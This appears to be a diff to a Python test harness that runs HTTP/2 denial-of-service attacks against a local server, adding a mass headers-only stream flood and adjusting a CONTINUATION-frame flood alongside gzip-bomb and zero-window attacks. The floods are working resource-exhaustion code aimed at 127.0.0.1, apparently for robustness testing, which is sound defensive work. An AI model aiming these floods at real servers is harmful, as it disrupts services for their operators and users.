@@ -100,15 +100,25 @@ async def gzip_bomb(attack: Attack) -> None:
 
 
 async def headers_only(attack: Attack) -> None:
-    """12,750 calls that never send their message; as each ends, the next begins."""
+    """Calls that never send their message, up to 12,750 that wait at the same time."""
+
+    async def one(connection: Connection) -> None:
+        calls: list[int] = []
+        while attack.going and len(calls) < STREAMS:
+            await attack.pace(15)
+            calls += [connection.begin(LIST_CALL) for _ in range(15)]
+        await attack.collect(connection, calls, 12)
+
+    await asyncio.gather(*(one(connection) for connection in await attack.open(50)))
+
+
+async def headers_at_once(attack: Attack) -> None:
+    """12,750 such calls in one go: more than two cores begin in a second."""
 
     async def one(connection: Connection) -> None:
         calls = [connection.begin(LIST_CALL) for _ in range(STREAMS)]
         attack.begun += len(calls)
         await attack.collect(connection, calls, 12)
-        while attack.going and not connection.closed.is_set():
-            await attack.pace(20)
-            await attack.collect(connection, [connection.begin(LIST_CALL) for _ in range(20)], 12)
 
     await asyncio.gather(*(one(connection) for connection in await attack.open(50)))
 
@@ -200,14 +210,15 @@ async def continuation(attack: Attack) -> None:
 
     async def one() -> None:
         while attack.going:
+            await asyncio.sleep(0.08)  # up to 100 connections a second, with 800 KB each
             with suppress(OSError):
                 _, writer = await asyncio.open_connection("127.0.0.1", attack.port)
+                attack.begun += 1
                 writer.write(PREFACE + frame(4, 0, 0, b"") + frame(HEADERS, 0, 1, LIST_CALL))
                 for _ in range(200):
                     writer.write(part)
                     await writer.drain()
                 writer.close()
-            await asyncio.sleep(0.01)
 
     await asyncio.gather(*(one() for _ in range(8)))
 
@@ -244,6 +255,7 @@ ATTACKS: Final[dict[str, Callable[[Attack], Awaitable[None]]]] = {
     for each in (
         gzip_bomb,
         headers_only,
+        headers_at_once,
         no_message,
         window_zero,
         at_once,
